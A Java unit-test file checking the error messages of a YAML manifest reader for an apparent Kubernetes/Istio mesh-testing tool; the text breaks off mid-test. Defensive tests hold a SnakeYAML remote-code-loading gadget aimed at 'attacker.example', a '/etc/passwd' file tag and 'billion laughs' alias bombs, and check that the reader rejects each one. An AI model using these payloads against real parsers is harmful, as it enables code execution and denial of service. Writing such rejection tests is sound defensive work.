package dev.meshtest.internal.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.meshtest.config.MeshConfigException;
import dev.meshtest.config.MeshConfigException.Problem;
import dev.meshtest.config.ResourceRef;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Bad input: every test pins the whole message, since the message is the product. */
class ManifestReaderErrorsTest {

    private static MeshConfigException failure(String yaml) {
        return catchThrowableOfType(MeshConfigException.class, () -> ManifestReader.read(yaml, "bad.yaml"));
    }

    private static String message(String yaml) {
        MeshConfigException e = failure(yaml);
        assertThat(e).as("expected a MeshConfigException").isNotNull();
        return e.getMessage();
    }

    /** Reads with the test kind Probe registered, whose spec has a component of every supported type. */
    private static String probe(String spec) {
        String yaml = "apiVersion: test.meshtest.dev/v1\nkind: Probe\nmetadata: {name: p}\nspec:\n" + spec;
        MeshConfigException e = catchThrowableOfType(MeshConfigException.class,
                () -> ManifestReader.read(new StringReader(yaml), "probe.yaml", Probe.KINDS));
        assertThat(e).as("expected a MeshConfigException").isNotNull();
        return e.getMessage();
    }

    private static final String POD_HEAD = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: nginx\n";

    // ---- unknown fields, types, required values ---------------------------------------------

    @Test
    void aTagWhoseEscapesDecodeToABlankIsASyntaxError() {
        // SnakeYAML refuses such a tag with an IllegalArgumentException, not a YAMLException (found
        // by SendFuzzTest): it must reach the user as meshtest's own message, in the document.
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: a}\n---\n!!%20 x\n")).isEqualTo(
                "bad.yaml: YAML syntax error in document 2: the tag's %-escapes decode to a blank at its start or end"
                        + " (Tag must not contain leading or trailing spaces.)");
        assertThat(message("!<%20> x")).startsWith("bad.yaml: YAML syntax error in document 1: the tag's");
    }

    @Test
    void unknownFieldDeepInsideAListNamesTheFullPath() {
        assertThat(message("""
                apiVersion: apps/v1
                kind: Deployment
                metadata: {name: web}
                spec:
                  selector: {matchLabels: {app: web}}
                  template:
                    spec:
                      containers:
                      - name: web
                        imagee: nginx
                """)).isEqualTo("bad.yaml:10:9: Deployment default/web: spec.template.spec.containers[0].imagee: "
                + "unknown field (did you mean \"image\"?)");
    }

    @Test
    void unknownTopLevelFieldWithoutACloseMatch() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: {name: shop}\nfoo: bar\n"))
                .isEqualTo("bad.yaml:4:1: Namespace shop: foo: unknown field");
    }

    @Test
    void unknownFieldProblemCarriesRefAndPath() {
        Problem p = failure("apiVersion: v1\nkind: Service\nmetadata: {name: s, namespace: shop}\nspec: {prots: []}\n")
                .problems().get(0);
        assertThat(p).isEqualTo(new Problem("bad.yaml:4:8", new ResourceRef("Service", "shop", "s"), "spec.prots",
                "unknown field (did you mean \"ports\"?)"));
    }

    @Test
    void stringWhereAnIntegerBelongs() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports:\n  - port: http\n"))
                .isEqualTo("bad.yaml:6:11: Service default/s: spec.ports[0].port: expected an integer, "
                        + "found the string \"http\"");
    }

    @Test
    void quotedNumberWhereAnIntegerBelongsSaysToRemoveTheQuotes() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports:\n  - port: \"80\"\n"))
                .isEqualTo("bad.yaml:6:11: Service default/s: spec.ports[0].port: expected an integer, "
                        + "found the string \"80\"; remove the quotes");
    }

    @Test
    void floatWhereAnIntegerBelongs() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports:\n  - port: 1.5\n"))
                .isEqualTo("bad.yaml:6:11: Service default/s: spec.ports[0].port: expected an integer, "
                        + "found the number 1.5");
    }

    @Test
    void integerOutOfRange() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports:\n  - port: 4294967296\n"))
                .isEqualTo("bad.yaml:6:11: Service default/s: spec.ports[0].port: the number 4294967296 is out of "
                        + "range for a 32-bit integer");
    }

    @Test
    void listWhereAMapBelongs() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  selector: [app]\n"))
                .isEqualTo("bad.yaml:5:13: Service default/s: spec.selector: expected a map, found a list");
    }

    @Test
    void mapWhereAStringBelongs() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  type: {a: b}\n"))
                .isEqualTo("bad.yaml:5:9: Service default/s: spec.type: expected a string, found a map");
    }

    @Test
    void scalarWhereAListBelongs() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports: 80\n"))
                .isEqualTo("bad.yaml:5:10: Service default/s: spec.ports: expected a list, found the number 80");
    }

    @Test
    void numericLabelValue() {
        assertThat(message(POD_HEAD + "  labels:\n    version: 1.0\nspec: {containers: [{name: c}]}\n"))
                .isEqualTo("bad.yaml:6:14: Pod default/nginx: metadata.labels.version: Kubernetes requires a string "
                        + "here, found the number 1.0; quote it: version: \"1.0\"");
    }

    @Test
    void yamlOneOneBooleanLabelValue() {
        assertThat(message(POD_HEAD + "  labels:\n    canary: yes\nspec: {containers: [{name: c}]}\n"))
                .isEqualTo("bad.yaml:6:13: Pod default/nginx: metadata.labels.canary: Kubernetes requires a string "
                        + "here, found the boolean yes (YAML 1.1 reads yes as true); quote it: canary: \"yes\"");
    }

    @Test
    void goYamlShortBooleanAnnotationValue() {
        assertThat(message(POD_HEAD + "  annotations:\n    sidecar.istio.io/inject: n\n"
                + "spec: {containers: [{name: c}]}\n"))
                .isEqualTo("bad.yaml:6:30: Pod default/nginx: metadata.annotations.sidecar.istio.io/inject: "
                        + "Kubernetes requires a string here, found the boolean n (YAML 1.1 reads n as false); "
                        + "quote it: sidecar.istio.io/inject: \"n\"");
    }

    @Test
    void aNullLabelValueIsTheEmptyString() {
        // Go's JSON decoding leaves a null string at "", and kubectl coerces null labels alike
        // (kubernetes#129257): the Pod is created with the label tier="".
        var pod = (dev.meshtest.config.kube.Pod) ManifestReader.read(POD_HEAD + "  labels:\n    tier:\n    app: ~\n"
                + "  annotations: {note: null}\nspec: {containers: [{name: c}]}\n", "ok.yaml").get(0).resource();
        assertThat(pod.metadata().labels()).containsExactly(java.util.Map.entry("tier", ""), java.util.Map.entry("app", ""));
        assertThat(pod.metadata().annotations()).containsExactly(java.util.Map.entry("note", ""));
    }

    @Test
    void aNullStringInABuiltInKindsListIsTheEmptyString() {
        var d = (dev.meshtest.config.kube.Deployment) ManifestReader.read("""
                apiVersion: apps/v1
                kind: Deployment
                metadata: {name: d}
                spec:
                  selector:
                    matchLabels: {app: a}
                    matchExpressions: [{key: v, operator: In, values: [v1, ~]}]
                  template:
                    metadata: {labels: {app: a, v: v1}}
                    spec: {containers: [{name: c}]}
                """, "ok.yaml").get(0).resource();
        assertThat(d.spec().selector().matchExpressions().get(0).values()).containsExactly("v1", "");
    }

    @Test
    void aNullMapValueOfACustomResourceIsPruned() {
        // The API server drops a null map value before it validates (PruneNonNullableNullsWithoutDefaults).
        var vs = (dev.meshtest.config.istio.VirtualService) ManifestReader.read("""
                apiVersion: networking.istio.io/v1
                kind: VirtualService
                metadata: {name: vs}
                spec:
                  hosts: [a]
                  http:
                  - headers: {request: {set: {x-a: ~, x-b: b}}}
                    route: [{destination: {host: a}}]
                """, "ok.yaml").get(0).resource();
        assertThat(vs.spec().http().get(0).headers().request().set()).containsExactly(java.util.Map.entry("x-b", "b"));
    }

    @Test
    void numericListItemWhereStringsBelong() {
        assertThat(message(POD_HEAD + "spec:\n  containers: [{name: c}]\n---\n"
                + "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec:\n  selector:\n"
                + "    matchExpressions: [{key: v, operator: In, values: [v1, 2]}]\n"
                + "  template: {spec: {containers: [{name: c}]}}\n"))
                .isEqualTo("bad.yaml:13:60: Deployment default/d: spec.selector.matchExpressions[0].values[1]: "
                        + "Kubernetes requires a string here, found the number 2; quote it: \"2\"");
    }

    @Test
    void nonStringMapKey() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n  labels: {1.5: http}\n"))
                .isEqualTo("bad.yaml:5:12: Namespace shop: metadata.labels.1.5: keys must be strings, found the "
                        + "number 1.5; quote it: \"1.5\":");
    }

    @Test
    void intOrStringRejectsBooleans() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec:\n  ports:\n"
                + "  - {port: 80, targetPort: on}\n"))
                .isEqualTo("bad.yaml:6:28: Service default/s: spec.ports[0].targetPort: expected an integer or a "
                        + "string, found the boolean on (YAML 1.1 reads on as true)");
    }

    @Test
    void missingRequiredFieldIsLocatedAtItsParent() {
        assertThat(message(POD_HEAD + "spec:\n  containers:\n  - name: c\n    ports:\n    - name: http\n"))
                .isEqualTo("bad.yaml:9:7: Pod default/nginx: spec.containers[0].ports[0].containerPort: Required value");
    }

    @Test
    void requiredFieldGivenAsNullIsMissing() {
        assertThat(message(POD_HEAD + "spec:\n  containers: ~\n"))
                .isEqualTo("bad.yaml:5:1: Pod default/nginx: spec.containers: Required value");
    }

    @Test
    void recordConstructorRejectionBecomesAProblem() {
        assertThat(probe("  id: x\n  steps:\n  - weight: -5\n"))
                .isEqualTo("probe.yaml:7:5: Probe default/p: spec.steps[0]: weight -5 < 0");
    }

    // ---- durations, enums, timestamps ---------------------------------------------------------

    @Test
    void durationWithoutUnit() {
        assertThat(probe("  id: x\n  timeout: 10\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.timeout: "
                + "expected a duration such as 1.5s or 100ms, found the number 10; a duration needs a unit: write 10s, 10ms,"
                + " 10m or 10h");
        assertThat(probe("  id: x\n  timeout: \"10\"\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.timeout: "
                + "invalid duration \"10\": missing unit (write 10s, 10ms, 10m or 10h)");
    }

    @Test
    void durationWithUnknownUnit() {
        assertThat(probe("  id: x\n  timeout: 1x\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.timeout: "
                + "invalid duration \"1x\": unknown unit \"x\" (use h, m, s, ms, us or ns)");
    }

    @Test
    void durationWithoutNumber() {
        assertThat(probe("  id: x\n  timeout: fast\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.timeout: "
                + "invalid duration \"fast\": expected a number with a unit, such as 1.5s, 100ms or 1h30m");
    }

    @Test
    void durationMissingTrailingUnit() {
        assertThat(probe("  id: x\n  timeout: 1h30\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.timeout: "
                + "invalid duration \"1h30\": missing unit after 30");
    }

    @Test
    void unknownEnumValueListsTheAllowedOnes() {
        assertThat(probe("  id: x\n  mode: RANDOM\n")).isEqualTo("probe.yaml:6:9: Probe default/p: spec.mode: "
                + "Unsupported value: \"RANDOM\": supported values: \"ROUND_ROBIN\", \"LEAST_REQUEST\"");
    }

    @Test
    void enumIsCaseSensitive() {
        assertThat(probe("  id: x\n  mode: round_robin\n")).isEqualTo("probe.yaml:6:9: Probe default/p: spec.mode: "
                + "Unsupported value: \"round_robin\": supported values: \"ROUND_ROBIN\", \"LEAST_REQUEST\"");
    }

    @Test
    void badTimestamp() {
        assertThat(probe("  id: x\n  at: 2024-13-01T00:00:00Z\n")).isEqualTo("probe.yaml:6:7: Probe default/p: "
                + "spec.at: invalid timestamp \"2024-13-01T00:00:00Z\": expected RFC 3339, such as 2024-01-02T15:04:05Z");
    }

    @Test
    void notANumberForADouble() {
        assertThat(probe("  id: x\n  ratio: .nan\n"))
                .isEqualTo("probe.yaml:6:10: Probe default/p: spec.ratio: expected a finite number, found .nan");
    }

    @Test
    void stringForABoolean() {
        assertThat(probe("  id: x\n  enabled: \"true\"\n")).isEqualTo("probe.yaml:6:12: Probe default/p: spec.enabled: "
                + "expected a boolean (true or false), found the string \"true\"; remove the quotes");
    }

    // ---- kinds and headers --------------------------------------------------------------------

    @Test
    void unknownKindSuggestsAndListsSupportedKinds() {
        assertThat(message("apiVersion: v1\nkind: Servic\nmetadata: {name: s}\n"))
                .isEqualTo("bad.yaml:2:7: no matches for kind \"Servic\" in version \"v1\"; did you mean Service (v1)?; "
                        + "supported kinds: AuthorizationPolicy (security.istio.io/v1), DaemonSet (apps/v1), Deployment (apps/v1), DestinationRule (networking.istio.io/v1), EndpointSlice (discovery.k8s.io/v1), Endpoints (v1), GRPCRoute (gateway.networking.k8s.io/v1), Gateway (gateway.networking.k8s.io/v1), Gateway (networking.istio.io/v1), GatewayClass (gateway.networking.k8s.io/v1), HTTPRoute (gateway.networking.k8s.io/v1), Namespace (v1), PeerAuthentication (security.istio.io/v1), Pod (v1), ReferenceGrant (gateway.networking.k8s.io/v1beta1), ReplicaSet (apps/v1), RequestAuthentication (security.istio.io/v1), Secret (v1), Service (v1), ServiceEntry (networking.istio.io/v1), Sidecar (networking.istio.io/v1), StatefulSet (apps/v1), TCPRoute (gateway.networking.k8s.io/v1), TLSRoute (gateway.networking.k8s.io/v1), VirtualService (networking.istio.io/v1)");
    }

    @Test
    void unknownKindWithoutCloseMatch() {
        assertThat(message("apiVersion: networking.istio.io/v1\nkind: Telescope\nmetadata: {name: s}\n"))
                .isEqualTo("bad.yaml:2:7: no matches for kind \"Telescope\" in version \"networking.istio.io/v1\"; "
                        + "supported kinds: AuthorizationPolicy (security.istio.io/v1), DaemonSet (apps/v1), Deployment (apps/v1), DestinationRule (networking.istio.io/v1), EndpointSlice (discovery.k8s.io/v1), Endpoints (v1), GRPCRoute (gateway.networking.k8s.io/v1), Gateway (gateway.networking.k8s.io/v1), Gateway (networking.istio.io/v1), GatewayClass (gateway.networking.k8s.io/v1), HTTPRoute (gateway.networking.k8s.io/v1), Namespace (v1), PeerAuthentication (security.istio.io/v1), Pod (v1), ReferenceGrant (gateway.networking.k8s.io/v1beta1), ReplicaSet (apps/v1), RequestAuthentication (security.istio.io/v1), Secret (v1), Service (v1), ServiceEntry (networking.istio.io/v1), Sidecar (networking.istio.io/v1), StatefulSet (apps/v1), TCPRoute (gateway.networking.k8s.io/v1), TLSRoute (gateway.networking.k8s.io/v1), VirtualService (networking.istio.io/v1)");
    }

    @Test
    void knownKindInAnUnservedVersion() {
        assertThat(message("apiVersion: extensions/v1beta1\nkind: Deployment\nmetadata: {name: d}\n"))
                .isEqualTo("bad.yaml:2:7: no matches for kind \"Deployment\" in version \"extensions/v1beta1\"; "
                        + "Deployment is served as apps/v1");
    }

    @Test
    void knownKindServedInSeveralVersions() {
        assertThat(message("apiVersion: autoscaling/v2beta2\nkind: HorizontalPodAutoscaler\nmetadata: {name: h}\n"))
                .isEqualTo("bad.yaml:2:7: no matches for kind \"HorizontalPodAutoscaler\" in version "
                        + "\"autoscaling/v2beta2\"; HorizontalPodAutoscaler is served as autoscaling/v2 or autoscaling/v1");
    }

    @Test
    void missingApiVersion() {
        assertThat(message("kind: Service\nmetadata: {name: s}\n")).isEqualTo("bad.yaml:1:1: apiVersion not set");
    }

    @Test
    void missingKind() {
        assertThat(message("apiVersion: v1\nmetadata: {name: s}\n")).isEqualTo("bad.yaml:1:1: kind not set");
    }

    @Test
    void missingBothApiVersionAndKind() {
        assertThat(message("metadata: {name: s}\n"))
                .isEqualTo("2 problems:\n  bad.yaml:1:1: apiVersion not set\n  bad.yaml:1:1: kind not set");
    }

    @Test
    void apiVersionThatIsNotAString() {
        assertThat(message("apiVersion: 1\nkind: Service\n"))
                .isEqualTo("bad.yaml:1:13: apiVersion: expected a string, found the number 1");
    }

    @Test
    void missingMetadata() {
        assertThat(message("apiVersion: v1\nkind: Namespace\n"))
                .isEqualTo("bad.yaml:1:1: metadata.name: resource name may not be empty");
    }

    @Test
    void missingName() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata:\n  namespace: shop\n"))
                .isEqualTo("bad.yaml:3:1: metadata.name: resource name may not be empty");
    }

    @Test
    void emptyName() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata:\n  name: \"\"\n"))
                .isEqualTo("bad.yaml:4:3: metadata.name: resource name may not be empty");
    }

    @Test
    void unsupportedWorkloadKind() {
        assertThat(message("apiVersion: v1\nkind: ReplicationController\nmetadata: {name: db, namespace: shop}\n"))
                .isEqualTo("bad.yaml:2:7: ReplicationController shop/db: not supported: its pods would be endpoints of "
                        + "Services, and meshtest simulates the pods of Deployments, StatefulSets, ReplicaSets, DaemonSets and "
                        + "bare Pods; use a Deployment (ReplicationController is deprecated in favour of it)");
    }

    @Test
    void bareListDocument() {
        assertThat(message("- apiVersion: v1\n  kind: Namespace\n"))
                .isEqualTo("bad.yaml:1:1: a manifest must be a map with apiVersion, kind and metadata, found a list");
    }

    @Test
    void scalarDocument() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\nhello\n"))
                .isEqualTo("bad.yaml:5:1: a manifest must be a map with apiVersion, kind and metadata, "
                        + "found the string \"hello\"");
    }

    @Test
    void nonMapItemOfAKindList() {
        assertThat(message("apiVersion: v1\nkind: List\nitems:\n- 3\n"))
                .isEqualTo("bad.yaml:4:3: items[0]: a manifest must be a map with apiVersion, kind and metadata, "
                        + "found the number 3");
    }

    @Test
    void problemsOfSeveralListItems() {
        assertThat(message("""
                apiVersion: v1
                kind: List
                items:
                - apiVersion: v1
                  kind: Servic
                  metadata: {name: a}
                - apiVersion: v1
                  kind: Service
                  metadata: {name: b}
                  spec: {ports: [{port: x}]}
                """)).isEqualTo("""
                2 problems:
                  bad.yaml:5:9: no matches for kind "Servic" in version "v1"; did you mean Service (v1)?; \
                supported kinds: AuthorizationPolicy (security.istio.io/v1), DaemonSet (apps/v1), Deployment (apps/v1), DestinationRule (networking.istio.io/v1), EndpointSlice (discovery.k8s.io/v1), Endpoints (v1), GRPCRoute (gateway.networking.k8s.io/v1), Gateway (gateway.networking.k8s.io/v1), Gateway (networking.istio.io/v1), GatewayClass (gateway.networking.k8s.io/v1), HTTPRoute (gateway.networking.k8s.io/v1), Namespace (v1), PeerAuthentication (security.istio.io/v1), Pod (v1), ReferenceGrant (gateway.networking.k8s.io/v1beta1), ReplicaSet (apps/v1), RequestAuthentication (security.istio.io/v1), Secret (v1), Service (v1), ServiceEntry (networking.istio.io/v1), Sidecar (networking.istio.io/v1), StatefulSet (apps/v1), TCPRoute (gateway.networking.k8s.io/v1), TLSRoute (gateway.networking.k8s.io/v1), VirtualService (networking.istio.io/v1)
                  bad.yaml:10:25: Service default/b: spec.ports[0].port: expected an integer, found the string "x\"""");
    }

    // ---- several problems ---------------------------------------------------------------------

    @Test
    void allProblemsOfADocumentInSourceOrder() {
        MeshConfigException e = failure("""
                apiVersion: apps/v1
                kind: Deployment
                metadata:
                  name: web
                  labels: {version: 2}
                spec:
                  selector: [app]
                  template:
                    spec:
                      containers:
                      - name: web
                        ports:
                        - {}
                sepc: {}
                """);
        assertThat(e.getMessage()).isEqualTo("""
                4 problems:
                  bad.yaml:5:21: Deployment default/web: metadata.labels.version: Kubernetes requires a string here, \
                found the number 2; quote it: version: "2"
                  bad.yaml:7:13: Deployment default/web: spec.selector: expected a map, found a list
                  bad.yaml:13:11: Deployment default/web: spec.template.spec.containers[0].ports[0].containerPort: \
                Required value
                  bad.yaml:14:1: Deployment default/web: sepc: unknown field (did you mean "spec"?)""");
        assertThat(e.problems()).extracting(Problem::fieldPath).containsExactly("metadata.labels.version",
                "spec.selector", "spec.template.spec.containers[0].ports[0].containerPort", "sepc");
    }

    @Test
    void problemsOfAllDocumentsTogether() {
        assertThat(message("""
                apiVersion: v1
                kind: Namespace
                metadata: {name: a, labels: {on: off}}
                ---
                apiVersion: v1
                kind: Namespace
                metadata: {name: b}
                ---
                kind: Namespace
                metadata: {name: c}
                """)).isEqualTo("""
                2 problems:
                  bad.yaml:3:30: Namespace a: metadata.labels.on: keys must be strings, found the boolean on \
                (YAML 1.1 reads on as true); quote it: "on":
                  bad.yaml:9:1: apiVersion not set""");
    }

    // ---- YAML syntax ----------------------------------------------------------------------------

    @Test
    void mappingValuesNotAllowed() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: a: b\n"))
                .isEqualTo("bad.yaml:4:10: YAML syntax error: mapping values are not allowed in this context "
                        + "(is the indentation right? a value that contains \": \" must be quoted)");
    }

    @Test
    void unclosedQuote() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: \"shop\n  labels: {}\n"))
                .isEqualTo("bad.yaml:4:9: YAML syntax error: this quoted string is never closed");
    }

    @Test
    void badIndentation() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop\n labels: {}\n"))
                .isEqualTo("bad.yaml:5:2: YAML syntax error: did not find expected key (is the indentation right? "
                        + "the map starts at line 1, column 1)");
    }

    @Test
    void tabIndentation() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n\tname: shop\n"))
                .isEqualTo("bad.yaml:4:1: YAML syntax error: found a tab character that cannot start any token "
                        + "(YAML indents with spaces, never tabs)");
    }

    @Test
    void unclosedFlowList() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata: {name: s}\nspec: {ports: [{port: 80}\n"))
                .isEqualTo("bad.yaml:5:1: YAML syntax error: did not find expected ',' or ']' (the list that starts "
                        + "at line 4, column 15 is not closed)");
    }

    @Test
    void undefinedAlias() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: *meta\n"))
                .isEqualTo("bad.yaml:3:11: YAML syntax error: unknown alias *meta (no anchor &meta before it)");
    }

    @Test
    void reservedIndicator() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: {name: @shop}\n"))
                .isEqualTo("bad.yaml:3:18: YAML syntax error: found character '@' that cannot start any token "
                        + "(quote the value)");
    }

    @Test
    void duplicateKeys() {
        assertThat(message("apiVersion: v1\nkind: Service\nmetadata:\n  name: a\n  name: b\n"))
                .isEqualTo("bad.yaml:5:3: Service default/a: metadata.name: mapping key \"name\" already defined at line 4");
    }

    @Test
    void duplicateKeysAmongManyKeys() {
        // Keys are compared by a scan up to the eighth and in a hash map beyond: both find the duplicate.
        StringBuilder labels = new StringBuilder();
        for (int i = 1; i <= 12; i++) {
            labels.append("    k").append(i).append(": v\n");
        }
        String yaml = "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: a\n  labels:\n" + labels;
        assertThat(message(yaml + "    k3: again\n"))
                .isEqualTo("bad.yaml:18:5: Namespace a: metadata.labels.k3: mapping key \"k3\" already defined at line 8");
        assertThat(message(yaml + "    k11: again\n"))
                .isEqualTo("bad.yaml:18:5: Namespace a: metadata.labels.k11: mapping key \"k11\" already defined at line 16");
    }

    @Test
    void duplicateKeysInsideAnAcceptedField() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\nstatus:\n  phase: Active\n"
                + "  phase: Terminating\n"))
                .isEqualTo("bad.yaml:6:3: Namespace a: status.phase: mapping key \"phase\" already defined at line 5");
    }

    @Test
    void badMergeKeyValue() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: a\n  labels:\n    <<: 5\n"))
                .isEqualTo("bad.yaml:6:9: Namespace a: metadata.labels: the value of a merge key (<<) must be a map "
                        + "or a list of maps, found the number 5");
    }

    // ---- empty input ----------------------------------------------------------------------------

    @Test
    void emptyInput() {
        assertThat(message("")).isEqualTo("bad.yaml: no objects passed to apply");
    }

    @Test
    void commentsOnly() {
        assertThat(message("# nothing here\n---\n# nor here\n")).isEqualTo("bad.yaml: no objects passed to apply");
    }

    @Test
    void emptyKindList() {
        assertThat(message("apiVersion: v1\nkind: List\nitems: []\n")).isEqualTo("bad.yaml: no objects passed to apply");
    }

    // ---- tags -----------------------------------------------------------------------------------

    @Test
    void javaIoFileTag() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: !!java.io.File /etc/passwd\n"))
                .isEqualTo("bad.yaml:4:9: metadata.name: tag !!java.io.File is not allowed: manifests "
                        + "hold plain YAML data (maps, lists, strings, numbers, booleans, null)");
    }

    @Test
    void scriptEngineManagerTag() {
        assertThat(message("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n"))
                .isEqualTo("bad.yaml:1:1: tag !!javax.script.ScriptEngineManager is not allowed: manifests hold "
                        + "plain YAML data (maps, lists, strings, numbers, booleans, null)");
    }

    @Test
    void customLocalTag() {
        assertThat(message("apiVersion: v1\nkind: Namespace\nmetadata: !secret {name: a}\n"))
                .isEqualTo("bad.yaml:3:11: Namespace a: metadata: tag !secret is not allowed: manifests hold plain "
                        + "YAML data (maps, lists, strings, numbers, booleans, null)");
    }

    @Test
    void binaryTagInsideAnIgnoredKind() {
        assertThat(message("apiVersion: v1\nkind: Secret\nmetadata: {name: s}\ndata: {key: !!binary aGk=}\n"))
                .isEqualTo("bad.yaml:4:13: Secret default/s: data.key: tag !!binary is not allowed: manifests hold "
                        + "plain YAML data (maps, lists, strings, numbers, booleans, null)");
    }

    // ---- limits ---------------------------------------------------------------------------------

    @Test
    void billionLaughs() {
        StringBuilder yaml = new StringBuilder("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: lol}\ndata:\n");
        yaml.append("  a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append("  ").append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ", ").append('*').append((char) (c - 1));
            }
            yaml.append("]\n");
        }
        assertThat(message(yaml.toString())).isEqualTo("bad.yaml: document 1 has more than 50 aliases of lists or "
                + "maps (is it a \"billion laughs\" YAML bomb?)");
    }

    @Test
    void aliasBombBelowTheAliasLimitIsStoppedByTheNodeLimit() {
        StringBuilder yaml = new StringBuilder("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: lol}\ndata:\n");
        yaml.append("  a0: &a0 [lol, lol]\n");
        for (int i = 1; i <= 24; i++) {
            yaml.append("  a").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a")
                    .append(i - 1).append("]\n");
        }
        assertThat(message(yaml.toString())).isEqualTo("bad.yaml:6:7: ConfigMap default/lol: data.a17[1][1][1][0][1][0][0][0][0][1][0][0][0][1][0][1]: "
                + "the document expands to more than 1000000 nodes through aliases (is it a \"billion laughs\" YAML bomb?)");
    }

    @Test
    void recursiveAlias() {
        assertThat(message("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: loop}\ndata: &d {self: *d}\n"))
                .isEqualTo("bad.yaml:4:11: ConfigMap default/loop: "
                        + "data.self.self.self.self.self.self.self.self.self.self.self....: "
                        + "the YAML nests deeper than 64 levels (does an alias refer to itself?)");
    }

    @Test
    void deepNesting() {
        String yaml = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: deep}\ndata: {x: " + "[".repeat(70)
                + "]".repeat(70) + "}\n";
        assertThat(message(yaml)).isEqualTo("bad.yaml: document 1 nests deeper than 64 levels");
    }

    @Test
    void oversizedDocument() {
        String yaml = "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n---\napiVersion: v1\nkind: ConfigMap\n"
                + "metadata: {name: big}\ndata: {x: \"" + "x".repeat(ManifestReader.MAX_DOCUMENT_CODE_POINTS) + "\"}\n";
        assertThat(message(yaml)).isEqualTo("bad.yaml: document 2 is larger than 3145728 characters (3 MiB, the size "
                + "of the largest request the Kubernetes API server accepts)");
    }

    @Test
    void manyDocumentsAreNotTooMany() {
        // A platform's mesh exported as one stream: the limit is on size, not on the number of documents.
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            yaml.append("apiVersion: v1\nkind: Namespace\nmetadata: {name: ns").append(i).append("}\n---\n");
        }
        assertThat(ManifestReader.read(yaml.toString(), "big.yaml")).hasSize(20_000);
    }

    @Test
    void aliasesAreCountedPerDocument() {
        // Forty documents of forty aliases each: within the limit of 50 per document, whatever the total.
        String doc = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c%d}\ndata: {}\nxs: &l [1, 2]\nys: ["
                + "*l, ".repeat(39) + "*l]\n---\n";
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < 40; i++) {
            yaml.append(doc.formatted(i));
        }
        assertThat(ManifestReader.read(yaml.toString(), "aliases.yaml")).isNotEmpty();
    }

    @Test
    void tooLargeASource() {
        // 64 MiB of comments after one object, streamed: the reader stops at the limit without holding it.
        java.io.InputStream endless = new java.io.InputStream() {
            private final byte[] head = "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n".getBytes(StandardCharsets.UTF_8);
            private long at;

            @Override
            public int read() {
                long i = at++;
                return i < head.length ? head[(int) i] : i % 80 == 0 ? '\n' : '#';
            }
        };
        assertThat(catchThrowableOfType(MeshConfigException.class, () -> ManifestReader.read(endless, "huge.yaml")))
                .hasMessage("huge.yaml: the source is larger than 67108864 characters (64 MiB); split it into several applies");
    }


    // ---- sources --------------------------------------------------------------------------------

    @Test
    void missingClasspathResource() {
        assertThat(catchThrowableOfType(MeshConfigException.class,
                () -> ManifestReader.readClasspath("classpath:yaml/nope.yaml")))
                .hasMessage("classpath resource not found: yaml/nope.yaml");
    }

    @Test
    void missingFile(@TempDir Path dir) {
        Path file = dir.resolve("nope.yaml");
        assertThat(catchThrowableOfType(MeshConfigException.class, () -> ManifestReader.read(file)))
                .hasMessage("file not found: " + file);
    }

    @Test
    void directoryInsteadOfFile(@TempDir Path dir) {
        assertThat(catchThrowableOfType(MeshConfigException.class, () -> ManifestReader.read(dir)))
